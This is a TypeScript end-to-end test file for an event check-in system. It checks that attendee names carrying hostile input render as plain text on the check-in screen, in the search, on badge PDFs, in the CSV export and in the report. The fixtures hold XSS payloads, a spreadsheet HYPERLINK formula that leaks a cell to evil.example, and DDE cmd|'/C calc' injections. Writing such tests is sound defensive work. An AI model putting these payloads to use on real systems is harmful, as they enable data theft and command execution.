// Names are data that importers and walk-in forms control: HTML, script, right-to-left
// overrides, control characters and spreadsheet formulas must come out as the same text
// everywhere — the check-in screen (Chromium, real renderer), the name search, the badge
// PDF (pdftotext), the attendance CSV (formulas neutralised) and the day report PDF.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import type { Browser, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import type { ExportFile } from '../../core/api/occupancy';
import { upsertAttendees, upsertBadgeCodes } from '../../db/attendees';
import { rooms, sessions } from '../../db/schema/index';
import { seedDemoEvent } from '../../resources/demo/seed';
import { openStation } from '../../station/station';
import { scanBurst, screenshot, type StationPage } from '../helpers/browser';
import { stationE2E } from '../helpers/station-e2e';
import { startHostProcess, type HostProcess } from '../../testkit/host';
import { tempDir } from '../helpers/station';
import { tool } from '../../testkit/tools';

interface Hostile {
  id: string;
  code: string;
  givenName: string;
  familyName: string;
  organisation: string;
  /** Plain words pdftotext must find on the badge. */
  words: string[];
}

const PEOPLE: Hostile[] = [
  {
    id: 'hostile-html',
    code: 'HOSTILE-01',
    givenName: '<img src=x onerror="window.__pwned=1">',
    familyName: '<script>window.__pwned=2</script>Scriptson',
    organisation: '<iframe src="javascript:alert(1)"></iframe>',
    words: ['<img src=x onerror', '<script>window'],
  },
  {
    id: 'hostile-rtl',
    code: 'HOSTILE-02',
    givenName: '\u202Etxet desrever\u202C Rtlova',
    familyName: '\u200Fمحمد\u200F\u2066Overrida\u2069',
    organisation: '\u202Bفريق\u202C Org',
    words: ['Rtlova', 'Overrida'],
  },
  {
    id: 'hostile-ctrl',
    code: 'HOSTILE-03',
    givenName: 'Ctrl\u0007bell\u0008back',
    familyName: 'Escap\u001b[31mred\u000bvt\u0085nel',
    organisation: 'Tab\there',
    words: ['Ctrl', 'Escap'],
  },
  {
    id: 'hostile-formula',
    code: 'HOSTILE-04',
    givenName: '=HYPERLINK("http://evil.example/?"&A1,"Formulina")',
    familyName: '+cmd|\' /C calc\'!A0',
    organisation: '@SUM(1+1)*cmd|\'/C calc\'!A0',
    words: ['=HYPERLINK("http', '+cmd|'],
  },
  {
    id: 'hostile-quotes',
    code: 'HOSTILE-05',
    givenName: 'O\'Brien "The, Quoted"',
    familyName: 'Line\r\nBreaker &amp; <b>bold</b>',
    organisation: '-2+3',
    words: ['Brien', 'Breaker'],
  },
];

const SESSION_TITLE = '=1+1 <b>Panel</b> "quoted", session';
const fullName = (p: Hostile) => `${p.givenName} ${p.familyName}`;

function pdfText(base64: string, name: string): string {
  const dir = path.join(tempDir('foyer-hostile-pdf-'));
  const file = path.join(dir, `${name}.pdf`);
  fs.writeFileSync(file, Buffer.from(base64, 'base64'));
  return execFileSync(tool('pdftotext'), ['-enc', 'UTF-8', file, '-'], { encoding: 'utf8' });
}

describe('hostile names render as text everywhere', () => {
  let host: HostProcess;
  let sp: StationPage;
  let page: Page;

  // A station holding the hostile records, then the host on its folder.
  const hostileStation = async () => {
    const dir = tempDir('foyer-hostile-');
    const st = openStation(dir, { stationName: 'Hostile desk', seed: seedDemoEvent });
    const now = Date.now();
    st.write(() => {
      upsertAttendees(
        st.db.orm,
        PEOPLE.map((p) => ({ id: p.id, givenName: p.givenName, familyName: p.familyName, organisation: p.organisation, delegation: '<u>D</u>', category: 'ngo' })),
      );
      upsertBadgeCodes(st.db.orm, PEOPLE.map((p) => ({ code: p.code, attendeeId: p.id, badgeVersion: 1 })));
      st.db.orm.insert(rooms).values({ id: 'hostile-room', name: '<b>Room</b> =SUM(A1)', capacity: 50, floor: '' }).run();
      st.db.orm.insert(sessions).values({ id: 'hostile-session', roomId: 'hostile-room', title: SESSION_TITLE, startsAt: now - 3_600_000, endsAt: now + 3 * 3_600_000, allowedCategories: null }).run();
    });
    st.close();
    return startHostProcess({ dataDir: dir });
  };
  stationE2E({ startHost: hostileStation, onReady: (s) => ({ host, sp, page } = s) });

  it('the check-in screen shows each name as literal text; nothing is injected, nothing runs', async () => {
    const verdict = page.getByTestId('verdict');
    for (const p of PEOPLE) {
      await page.getByTestId('scan-input').focus();
      await scanBurst(page, p.code);
      await expect.poll(() => page.getByTestId('verdict-name').textContent(), { timeout: 10_000 }).toBe(fullName(p));
      expect(await verdict.getAttribute('data-verdict')).toBe('admitted');
      expect(await verdict.textContent()).toContain(p.organisation);
    }
    await expect.poll(() => page.getByTestId('recent-scan').count()).toBeGreaterThanOrEqual(PEOPLE.length);
    const recent = await page.getByTestId('recent-scans').textContent();
    expect(recent).toContain('Scriptson');
    expect(recent).toContain('<script>');
    const injected = await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
      elements: document.querySelectorAll('img[src="x"], iframe, b, u, script:not([src])').length,
    }));
    expect(injected).toEqual({ pwned: null, elements: 0 });
    await screenshot(page, 'hostile-names-checkin');
  });

  it('the name search lists them as text too', async () => {
    const search = page.getByTestId('search-input');
    await search.fill('pwned');
    const options = page.getByTestId('search-results').getByRole('option');
    await expect.poll(() => options.count(), { timeout: 10_000 }).toBeGreaterThan(0);
    expect(await options.first().textContent()).toContain('<script>window.__pwned=2</script>Scriptson');
    expect(await page.evaluate(() => document.querySelectorAll('script:not([src]), img[src="x"]').length)).toBe(0);
    await screenshot(page, 'hostile-names-search');
    await search.fill('');
  });

  it('ran without console errors or CSP violations', () => {
    expect(sp.problems).toEqual([]);
  });

  it('badge PDFs render every name without crashing; pdftotext finds the words', async () => {
    for (const p of PEOPLE) {
      const r = await host.call<{ base64: string }>('badges.pdf', { attendeeId: p.id, template: 'cr80' });
      if (!r.ok) throw new Error(`${p.id}: ${r.error.message}`);
      const text = pdfText(r.value.base64, p.id);
      for (const w of p.words) expect(text, p.id).toContain(w);
    }
  });

  it('the attendance CSV keeps every name exactly and neutralises formulas; the day report PDF renders', async () => {
    expect((await host.call('door.configure', { roomId: 'hostile-room', mode: 'entry' })).ok).toBe(true);
    for (const p of PEOPLE) {
      const r = await host.call<{ verdict: string }>('door.scan', { text: p.code });
      expect(r.ok && r.value.verdict, p.id).not.toBe('refused');
    }
    const csv = await host.call<ExportFile>('occupancy.export', { kind: 'attendance_csv', sessionId: 'hostile-session' });
    if (!csv.ok) throw new Error(csv.error.message);
    const text = Buffer.from(csv.value.base64, 'base64').toString('utf8').replace(/^\uFEFF/, '');
    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    const header = rows[0]!;
    const body = rows.slice(1);
    expect(body).toHaveLength(PEOPLE.length);
    // No cell a spreadsheet would evaluate; each formula-looking cell is the original behind an apostrophe.
    for (const row of body) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    const col = (name: string) => header.indexOf(name);
    const unquote = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
    for (const p of PEOPLE) {
      const row = body.find((r) => r[col('Attendee id')] === p.id)!;
      expect(row, p.id).toBeTruthy();
      expect(unquote(row[col('Name')]!)).toBe(fullName(p));
      expect(unquote(row[col('Organisation')]!)).toBe(p.organisation);
      expect(unquote(row[col('Session')]!)).toBe(SESSION_TITLE);
    }
    expect(body.find((r) => r[col('Attendee id')] === 'hostile-formula')![col('Name')]).toBe(`'${fullName(PEOPLE[3]!)}`);

    const pdf = await host.call<ExportFile>('occupancy.export', { kind: 'day_report_pdf' });
    if (!pdf.ok) throw new Error(pdf.error.message);
    const report = pdfText(pdf.value.base64, 'day-report');
    expect(report).toContain('<b>Panel</b>');
  });
});
